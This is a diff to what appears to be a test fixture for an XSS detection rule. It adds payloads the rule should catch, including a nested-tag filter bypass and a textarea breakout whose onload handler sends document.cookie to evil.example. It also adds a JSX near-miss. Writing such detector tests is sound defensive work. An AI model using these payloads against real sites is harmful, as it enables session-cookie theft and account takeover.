@@ -41,6 +41,8 @@ export const xssCases: RuleCases = {
     '</script><script>alert(1)</script>',
     '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
     'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    "</textarea><body onload=new Image().src='http://evil.example/'+document.cookie>",
   ],
   nearMisses: [
     '<p>Hello <b>bold</b> and <i>italic</i></p>',
@@ -73,5 +75,6 @@ export const xssCases: RuleCases = {
     'Use <code>const x = 1</code> here',
     '<div data-on="x">content</div>',
     '<video src="movie.mp4" controls></video>',
+    '<div className="card" onClick={() => select(title)}>{title}</div>',
   ],
 };
